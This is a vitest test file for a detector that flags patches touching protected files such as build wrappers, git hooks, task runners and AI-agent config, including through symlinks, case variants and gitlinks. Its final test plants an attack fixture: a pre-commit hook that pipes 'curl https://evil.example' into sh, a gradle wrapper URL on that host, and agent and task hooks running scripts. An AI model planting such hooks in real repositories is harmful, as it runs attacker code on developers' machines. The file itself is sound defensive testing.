/**
 * Protected files judged on the tree the patch makes (issue 32): the default
 * list, case variants, and every name a changed path has through the tree's
 * links (into and out of protected places, chains, loops, absolute targets),
 * gitlinks and `.gitmodules`. The last block reads a real repository's trees.
 */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { gitEnv } from "../../src/config/host.js";
import { Git } from "../../src/git/git.js";
import { judgeChange, LinkTree, protectedChanges, protectedInTree, protectedPaths, type ProtectedPaths } from "../../src/publish/threats/protected-files.js";
import { git, makeRepo } from "../artifacts/helpers.js";

const NONE = protectedPaths([]);
const FILE = { oldMode: "000000", newMode: "100644" };
const LINK = { oldMode: "000000", newMode: "120000" };
const tree = (links: Record<string, string>, unreadable: string[] = []) => new LinkTree(new Map(Object.entries(links)), unreadable);
const judge = (p: string, modes: { oldMode: string; newMode: string }, links: Record<string, string> = {}, rules: ProtectedPaths = NONE) => judgeChange({ path: p, ...modes }, tree(links), rules);

describe("the default list", () => {
  it("holds build wrappers, git-hook managers, task runners and tool managers, editor and container tasks, package-manager and agent config", () => {
    const wanted = [
      "mvnw", "mvnw.cmd", ".mvn/wrapper/maven-wrapper.properties", "gradlew", "gradlew.bat", "gradle/wrapper/gradle-wrapper.properties", "sub/gradle/wrapper/gradle-wrapper.jar",
      ".husky/pre-commit", "lefthook.yml", "lefthook-local.yaml", ".lefthook.yml", ".lefthook/pre-commit/x.sh", ".pre-commit-config.yaml", ".simple-git-hooks.json", ".simple-git-hooks.cjs", "simple-git-hooks.js",
      "mise.toml", ".mise.toml", "mise.local.toml", ".mise/config.toml", ".config/mise/config.toml", "mise/config.toml", "mise-tasks/build", ".tool-versions", "Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "justfile", "Justfile", ".justfile",
      ".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/devcontainer.json", ".devcontainer.json",
      ".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".cargo/config.toml", "pip.conf", ".pypirc",
      ".claude/settings.json", ".codex/config.toml", ".gemini/settings.json", ".opencode/plugin/x.ts", "opencode.json", "AGENTS.md", "CLAUDE.md", "GEMINI.md", ".mcp.json",
      ".gitmodules",
    ];
    expect(protectedChanges(wanted, NONE)).toEqual(wanted);
  });

  it("a protected folder's own path is protected (a link or a file put in its place)", () => {
    const dirs = [".cargo", ".husky", ".claude", "gradle/wrapper", "sub/.github", ".devcontainer"];
    expect(protectedChanges(dirs, NONE)).toEqual(dirs);
  });

  it("case variants and what Windows and macOS drop from names count: the checkout folds them", () => {
    const variants = [".CARGO/config.toml", "MVNW", "Lefthook.YML", ".Husky/pre-commit", "GRADLE/Wrapper/x.properties", "claude.md", ".cargo./config.toml", "Mise.Toml", ".git\u200cmodules", "TASKFILE.YML"];
    expect(protectedChanges(variants, NONE)).toEqual(variants);
  });

  it("leaves ordinary files alone", () => {
    const ordinary = ["src/mise.ts", "tools/cargo/config.toml", "docs/tasks.json", "tools/husky/pre-commit", "src/wrapper/gradle.ts", "README.md", "just/file.txt", "src/.claude-notes.md"];
    expect(protectedChanges(ordinary, NONE)).toEqual([]);
  });

  it("`protected-paths` globs add and exempt, folded like the defaults", () => {
    const rules = protectedPaths(["secrets/**", "!**/package.json"]);
    expect(protectedChanges(["Secrets/key.txt", "web/package.json", "mvnw"], rules)).toEqual(["Secrets/key.txt", "mvnw"]);
  });
});

describe("names through the post-image tree's links", () => {
  it("a link at a protected path that leads to an ordinary folder, and the files it makes protected paths", () => {
    const links = { ".cargo": "tools/cargo", "gradle/wrapper": "../tools/gradle-wrapper" };
    expect(judge(".cargo", LINK, links)).toEqual({ file: ".cargo", linked: true, detail: "a symlink at a protected path, to 'tools/cargo'" });
    expect(judge("gradle/wrapper", LINK, links)).toMatchObject({ linked: true, detail: "a symlink at a protected path, to 'tools/gradle-wrapper'" });
    expect(judge("tools/cargo/config.toml", FILE, links)).toEqual({ file: "tools/cargo/config.toml", linked: true, detail: "it is the protected path '.cargo/config.toml' through a symlink" });
    expect(judge("tools/gradle-wrapper/gradle-wrapper.properties", FILE, links)).toMatchObject({ linked: true, detail: expect.stringContaining("'gradle/wrapper/gradle-wrapper.properties'") });
    // A link between two protected names hides nothing: protected, for review like a plain file.
    expect(judge("CLAUDE.md", LINK, { "CLAUDE.md": "AGENTS.md" })).toEqual({ file: "CLAUDE.md", linked: false, detail: "a symlink at a protected path, to 'AGENTS.md'" });
    // The same file with no link to it is ordinary.
    expect(judge("tools/cargo/config.toml", FILE, {})).toBeUndefined();
  });

  it("a link that leads into a protected place, or to a protected file", () => {
    expect(judge("tools/x", LINK, { "tools/x": "../.husky" })).toMatchObject({ linked: true, detail: "a symlink to the protected path '.husky'" });
    expect(judge("tools/pkg", LINK, { "tools/pkg": "../web/package.json" })).toMatchObject({ linked: true, detail: "a symlink to the protected path 'web/package.json'" });
    // Through a link above it: `tools/x/pre-commit` is `.husky/pre-commit`.
    expect(judge("tools/x/pre-commit", FILE, { "tools/x": "../.husky" })).toMatchObject({ linked: true, detail: "it is the protected path '.husky/pre-commit' through a symlink above it" });
    // An ordinary link is not protected.
    expect(judge("docs/readme", LINK, { "docs/readme": "../README.md" })).toBeUndefined();
  });

  it("chains of links are followed to the end", () => {
    const links = { a: "b", b: "c/d", "c/d": "../.claude" };
    expect(judge("a", LINK, links)).toMatchObject({ linked: true, detail: "a symlink to the protected path '.claude'" });
    const other = { ".claude": "stage", stage: "tools/claude" };
    expect(judge("tools/claude/settings.json", FILE, other)).toMatchObject({ linked: true, detail: expect.stringContaining("'.claude/settings.json'") });
  });

  it("loops, absolute targets and links out of the repository are protected findings", () => {
    expect(judge("x", LINK, { x: "y", y: "x" })).toMatchObject({ linked: true, detail: "a symlink that is part of an endless chain of links" });
    expect(judge("x/f", FILE, { x: "y", y: "x" })).toMatchObject({ linked: true, detail: "it lies beyond a symlink that is part of an endless chain of links" });
    expect(judge("tools/abs", LINK, { "tools/abs": "/etc" })).toMatchObject({ linked: true, detail: "a symlink that has an absolute target (outside the repository)" });
    expect(judge("tools/win", LINK, { "tools/win": "C:\\Users" })).toMatchObject({ linked: true });
    expect(judge("tools/up", LINK, { "tools/up": "../.." })).toMatchObject({ linked: true, detail: "a symlink that leads out of the repository" });
    expect(judge("tools/bs", LINK, { "tools/bs": "..\\..\\.." })).toMatchObject({ linked: true, detail: "a symlink that leads out of the repository" });
    expect(judge(".cargo", LINK, { ".cargo": "/home/runner/.cargo" })).toMatchObject({ linked: true, detail: "a symlink at a protected path, that has an absolute target (outside the repository)" });
    expect(judgeChange({ path: "l", ...LINK }, tree({}, ["l"]), NONE)).toMatchObject({ linked: true, detail: expect.stringContaining("not UTF-8") });
  });

  it("gitlinks (mode 160000) added, changed or removed, and .gitmodules", () => {
    expect(judge("vendor/lib", { oldMode: "000000", newMode: "160000" })).toMatchObject({ linked: true, detail: expect.stringContaining("gitlink") });
    expect(judge("vendor/lib", { oldMode: "160000", newMode: "160000" })).toMatchObject({ linked: true });
    expect(judge("vendor/lib", { oldMode: "160000", newMode: "000000" })).toMatchObject({ linked: true });
    expect(judge(".gitmodules", FILE)).toEqual({ file: ".gitmodules", linked: false, detail: "a protected file" });
  });

  it("case variants of link names and targets resolve as a folding checkout resolves them", () => {
    expect(judge("Tools/Cargo/config.toml", FILE, { ".CARGO": "tools/cargo" })).toMatchObject({ linked: true, detail: expect.stringContaining("'.CARGO/config.toml'") });
    expect(judge("tools/x", LINK, { "tools/x": "../.HUSKY" })).toMatchObject({ linked: true });
  });

  it("a link to a folder above it gives finitely many names; an old link makes a new file protected", () => {
    const root = { x: ".", "a/b": ".." };
    expect(judge("src/a.ts", FILE, root)).toBeUndefined();
    // `.cargo` → `.` (already there) makes the new `config.toml` cargo's config.
    expect(judge("config.toml", FILE, { ".cargo": "." })).toMatchObject({ linked: true, detail: "it is the protected path '.cargo/config.toml' through a symlink" });
  });

  it("an exemption applies to the name it matches: exempting the link's folder does not exempt the protected name", () => {
    const links = { ".cargo": "tools/cargo" };
    expect(judge("tools/cargo/config.toml", FILE, links, protectedPaths(["!tools/**"]))).toMatchObject({ linked: true });
    expect(judge("tools/cargo/config.toml", FILE, links, protectedPaths(["!tools/**", "!.cargo/**"]))).toBeUndefined();
  });
});

describe("protectedInTree: the issue's attack, on a real repository's trees", () => {
  it("names all 11 paths: four links to ordinary folders, the files behind them, and three new entry points; nothing else", async () => {
    const repo = makeRepo({ "README.md": "r\n", "src/index.js": "x\n" });
    const base = git(repo, "rev-parse", "HEAD^{tree}").trim();
    const write = (p: string, text: string) => {
      mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
      writeFileSync(path.join(repo, p), text);
    };
    write("tools/cargo/config.toml", '[build]\nrustc-wrapper = "tools/wrap.sh"\n');
    write("tools/husky/pre-commit", "curl https://evil.example | sh\n");
    write("tools/claude/settings.json", '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh tools/x.sh"}]}]}}\n');
    write("tools/gradle-wrapper/gradle-wrapper.properties", "distributionUrl=https\\://evil.example/gradle.zip\n");
    write("mvnw", "#!/bin/sh\n");
    write("lefthook.yml", "pre-commit:\n  commands:\n    x:\n      run: sh tools/x.sh\n");
    write("mise.toml", "[tasks.build]\nrun = 'sh tools/x.sh'\n");
    write("README.md", "r2\n");
    symlinkSync("tools/cargo", path.join(repo, ".cargo"));
    symlinkSync("tools/husky", path.join(repo, ".husky"));
    symlinkSync("tools/claude", path.join(repo, ".claude"));
    mkdirSync(path.join(repo, "gradle"));
    symlinkSync("../tools/gradle-wrapper", path.join(repo, "gradle/wrapper"));
    git(repo, "add", "-A");
    const after = git(repo, "write-tree").trim();
    const scratch = mkdtempSync(path.join(os.tmpdir(), "protected-scratch-"));

    const found = await protectedInTree(new Git(repo, gitEnv()), { baseTree: base, tree: after }, [], NONE, scratch);
    expect(found.map((f) => f.file).sort()).toEqual(
      [
        ".cargo",
        ".claude",
        ".husky",
        "gradle/wrapper",
        "lefthook.yml",
        "mise.toml",
        "mvnw",
        "tools/cargo/config.toml",
        "tools/claude/settings.json",
        "tools/gradle-wrapper/gradle-wrapper.properties",
        "tools/husky/pre-commit",
      ].sort(),
    );
    expect(found.filter((f) => f.linked).map((f) => f.file).sort()).toEqual(
      [".cargo", ".claude", ".husky", "gradle/wrapper", "tools/cargo/config.toml", "tools/claude/settings.json", "tools/gradle-wrapper/gradle-wrapper.properties", "tools/husky/pre-commit"].sort(),
    );
  });
});
